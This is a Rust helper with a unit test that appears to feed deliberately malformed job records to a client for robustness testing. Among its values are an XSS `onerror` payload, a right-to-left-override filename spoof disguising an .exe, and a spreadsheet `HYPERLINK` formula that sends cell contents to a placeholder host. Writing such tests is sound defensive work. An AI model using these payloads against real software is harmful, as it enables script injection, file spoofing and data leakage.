use serde_json::{Value, json};

/// Tells a job in a way that a client may not expect, each in its turn.
pub(super) fn odd(mut job: Value, index: u64) -> Value {
    match index % 12 {
        1 => job["name"] = "<img src=x onerror=alert(1)><b>Nightly</b>".into(),
        2 => job["name"] = "גיבוי לילי – \u{202e}txt.exe".into(),
        3 => job["name"] = "Very long name – ".repeat(40).into(),
        4 => job["status"] = "Hibernating".into(),
        5 => job["type"] = "BackupToCrystal".into(),
        6 => job = json!({ "instanceUid": job["instanceUid"] }),
        7 => job["name"] = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Nightly\")".into(),
        8 => job["name"] = Value::Null,
        9 => job["name"] = " two\r\nlines,\ta tab and \u{0} ".into(),
        10 => {
            job["name"] = 42.into();
            job["status"] = true.into();
            job["lastRun"] = "yesterday".into();
            job["lastEndTime"] = json!({});
            job["isEnabled"] = "yes".into();
        }
        11 => job["colour"] = json!({ "of": ["the", null, "tape"] }),
        _ => {}
    }
    job
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jobs::{Job, Kind};

    #[test]
    fn every_turn_but_one_is_odd_and_keeps_the_uid() {
        let told = (0..12).map(|index| {
            let job = Job { seed: 3, kind: Kind::Tape, index }.value();
            let odd = odd(job.clone(), index);
            assert_eq!(odd["instanceUid"], job["instanceUid"]);
            odd == job
        });
        assert_eq!(told.filter(|is_plain| *is_plain).count(), 1);
    }
}
